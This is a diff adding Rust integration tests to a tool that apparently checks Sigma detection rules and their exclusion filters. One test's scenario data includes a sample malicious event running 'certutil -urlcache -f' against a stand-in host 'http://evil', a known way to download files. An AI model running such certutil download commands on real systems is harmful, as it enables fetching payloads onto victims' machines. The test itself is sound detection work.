@@ -146,3 +146,91 @@ fn meta_filters_are_exclusions_of_the_rules_they_name() {
         .unwrap();
     assert_eq!(codes(bitsadmin), ["FPX304", "FPX107"]);
 }
+
+/// A scenario file can name a Sigma rule: its exclusion and templates use the log
+/// source's fields, and the harness generates events with them.
+#[test]
+fn scenarios_of_a_sigma_rule_run_the_harness() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    std::fs::copy(
+        root.join("tests/fixtures/sigma/proc_creation_win_susp_certutil.yml"),
+        dir.path().join("rule.yml"),
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("scenarios.yaml"),
+        r#"rule: 6a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d
+scenarios:
+  - name: Backup job
+    exclusion: User =~ "CONTOSO\\svc_backup" and ParentImage endswith "\\backup.exe"
+    benign:
+      - {Image: 'C:\Windows\System32\certutil.exe', CommandLine: 'certutil -urlcache -f http://x', User: 'CONTOSO\svc_backup', ParentImage: 'C:\Tools\backup.exe'}
+    malicious:
+      - {Image: 'C:\Windows\System32\certutil.exe', CommandLine: 'certutil -urlcache -f http://evil', User: 'CONTOSO\alice'}
+"#,
+    )
+    .unwrap();
+    let out = Command::cargo_bin("fpx")
+        .unwrap()
+        .args(["check", "--cases", "32", "--format", "json"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let s = v["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["source"] == "scenario")
+        .unwrap();
+    assert!(codes(s).is_empty(), "{s}");
+    assert_eq!(s["stats"]["benign"]["suppressed"], s["stats"]["benign"]["total"]);
+    assert_eq!(s["stats"]["malicious"]["suppressed"], 0);
+    assert!(s["stats"]["alerts"]["total"].as_u64().unwrap() > 0);
+}
+
+/// SARIF and Markdown place a Sigma filter's finding on its line of the .yml file.
+#[test]
+fn sarif_and_markdown_point_into_the_yml_file() {
+    let out = Command::cargo_bin("fpx")
+        .unwrap()
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .args([
+            "check",
+            "--cases",
+            "0",
+            "--format",
+            "sarif",
+            "tests/fixtures/sigma/file_event_win_dead_filter.yml",
+        ])
+        .output()
+        .unwrap();
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let result = &v["runs"][0]["results"][0];
+    let location = &result["locations"][0]["physicalLocation"];
+    assert_eq!(
+        location["artifactLocation"]["uri"],
+        "tests/fixtures/sigma/file_event_win_dead_filter.yml"
+    );
+    assert_eq!(location["region"]["startLine"], 15);
+    assert_eq!(location["region"]["startColumn"], 9);
+    let out = Command::cargo_bin("fpx")
+        .unwrap()
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .args([
+            "check",
+            "--cases",
+            "0",
+            "--format",
+            "markdown",
+            "tests/fixtures/sigma/file_event_win_dead_filter.yml",
+        ])
+        .output()
+        .unwrap();
+    let markdown = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        markdown.contains("`tests/fixtures/sigma/file_event_win_dead_filter.yml:15:9`"),
+        "{markdown}"
+    );
+}
